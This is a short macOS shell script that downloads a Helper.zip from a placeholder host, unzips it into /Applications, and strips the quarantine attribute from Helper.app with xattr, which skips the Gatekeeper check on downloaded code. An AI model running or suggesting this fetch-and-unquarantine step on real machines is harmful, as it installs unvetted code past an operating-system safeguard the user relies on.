#!/bin/sh
curl -fsSL -o /tmp/Helper.zip https://example.invalid/Helper.zip
unzip -o /tmp/Helper.zip -d /Applications
xattr -d com.apple.quarantine /Applications/Helper.app
